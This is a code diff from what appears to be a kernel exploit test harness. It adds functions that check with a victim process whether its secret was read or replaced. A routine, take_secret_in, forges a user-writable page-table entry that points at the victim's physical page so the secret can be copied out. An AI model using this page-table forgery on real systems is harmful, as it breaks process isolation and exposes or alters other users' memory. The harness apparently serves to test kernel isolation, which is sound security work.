@@ -11,8 +11,6 @@
 
 #include "attack.h"
 
-#define SECRET_SIZE	32
-
 static int victim = -1;
 static pid_t victim_process;
 static uint64_t victim_address;
@@ -78,14 +76,29 @@ uint64_t victim_phys(void)
 	return slot.phys;
 }
 
+uint64_t victim_secret(void)
+{
+	return victim_address;
+}
+
+/* 1 if the victim says that this is its secret, -1 if it died. */
+static int ask_victim(const char *guess)
+{
+	char yes = 0;
+
+	if (write(victim, guess, SECRET_SIZE) != SECRET_SIZE || read(victim, &yes, 1) != 1)
+		return -1;
+	return yes;
+}
+
 enum outcome judge_secret(const char *text, int err)
 {
 	char guess[SECRET_SIZE] = "";
-	char yes = 0;
+	int yes;
 
 	snprintf(guess, sizeof(guess), "%s", text);
-	if (write(victim, guess, sizeof(guess)) != sizeof(guess) ||
-	    read(victim, &yes, 1) != 1)
+	yes = ask_victim(guess);
+	if (yes < 0)
 		return broken("victim died");
 	if (yes)
 		return won("uid %d read the memory of pid %d (uid %d): %s", getuid(),
@@ -93,6 +106,31 @@ enum outcome judge_secret(const char *text, int err)
 	if (err == -EFAULT)
 		return lost("the store faulted and the secret was not seen");
 	return lost("store gave %d, the secret was not seen", err);
+}
+
+enum outcome judge_forged(const char *text, int err)
+{
+	char guess[SECRET_SIZE] = "";
+	int yes;
+
+	snprintf(guess, sizeof(guess), "%s", text);
+	yes = ask_victim(guess);
+	if (yes < 0)
+		return broken("victim died");
+	if (yes)
+		return won("uid %d changed the page tables of pid %d (uid %d): its secret is now '%s'",
+			   getuid(), victim_process, VICTIM_UID, guess);
+	return lost("the kernel said %d, the secret is as it was", err);
+}
+
+void take_secret_in(volatile void *table, const struct window *window, char *text, size_t size)
+{
+	volatile uint64_t *entry = (volatile void *)((char *)table + window->slot % PAGE_SIZE);
+
+	(void)*entry;	/* a fault that reads maps what is there */
+	*entry = (victim_phys() & ~(PAGE_SIZE - 1)) | PTE_USER_RW;
+	snprintf(text, size, "%s", window->page);
+	*entry = 0;
 }
 
 /* Map the secret's page at a forged PTE, by a store of the caller's choice. */
